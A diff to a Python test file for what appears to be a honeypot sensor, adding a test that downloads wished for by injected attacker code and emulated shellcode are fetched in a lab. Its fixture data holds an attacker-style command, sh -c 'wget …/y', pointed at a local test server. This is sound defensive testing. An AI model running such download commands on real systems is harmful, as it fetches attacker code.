@@ -17,7 +17,7 @@ from eudaemon.evidence.model import Evidence
 from eudaemon.sensor.inbox import FILE_BYTES_MAX, FILES_MAX, Inbox, hand_in
 from evidence.reports import evidence
 from sensor.farm import farm
-from sensor.harness import running
+from sensor.harness import events, running
 from sensor.test_fetching import LAB, site
 
 
@@ -55,6 +55,24 @@ async def test_what_the_injected_code_would_download_is_fetched(tmp_path: Path) 
     assert (finished.session, finished.attacker) == (told[0].session, told[0].attacker)
 
 
+async def test_what_only_an_emulated_cpu_has_seen_is_fetched_too(tmp_path: Path) -> None:
+    """It is handed in later, and belongs to the same session; what both have found is fetched once."""
+    sample = bytes(range(256)) * 9
+    ids = IdSource(os.urandom)
+    async with site(x=sample, y=b"other") as it, running(tmp_path, fetch=LAB) as sensor:
+        told = facts.events(evidence(), ids, [(f"{it.url}/y", "wget")])
+        late = facts.wished(told[0], ids, [(f"{it.url}/x", "shellcode"), ("tcp://127.0.0.1:9/", "shellcode")])
+        assert hand_in(tmp_path / "inbox", "1", told, [b"sh -c 'wget %s/y'" % it.url.encode()])
+        assert hand_in(tmp_path / "inbox", "1_examined", late, [])
+        finished = await sensor.until("download.finished", count=3)
+    wished = [event.fact.url for event in events(tmp_path, "download.wished")]  # type: ignore[attr-defined]
+    assert wished == [f"{it.url}/y", f"{it.url}/x", "tcp://127.0.0.1:9/"]
+    assert {event.fact.url.rpartition("/")[2]: event.fact.outcome for event in finished} == {  # type: ignore[attr-defined]
+        "y": "ok", "x": "ok", "": "refused"
+    }  # fmt: skip
+    assert {(event.session, event.attacker) for event in finished} == {(told[0].session, told[0].attacker)}
+
+
 def test_what_came_from_no_peer_is_no_session() -> None:
     told = facts.events(evidence(peer="", kind="stdin"), IdSource(os.urandom))
     assert [event.fact.kind for event in told] == ["control.hijacked", "artefact.kept", "artefact.kept"]
@@ -67,7 +85,9 @@ class Taken:
     def __init__(self, folder: Path) -> None:
         self.lines: list[bytes] = []
         self.commits = 0
-        self.inbox = Inbox(folder, "me", self.lines.append, lambda data: None, self._commit, lambda *_: None)
+        self.inbox = Inbox(
+            folder, "me", self.lines.append, lambda data: None, self._commit, lambda *_: None, lambda *_: None
+        )
         self.inbox.open()
 
     async def _commit(self) -> None:
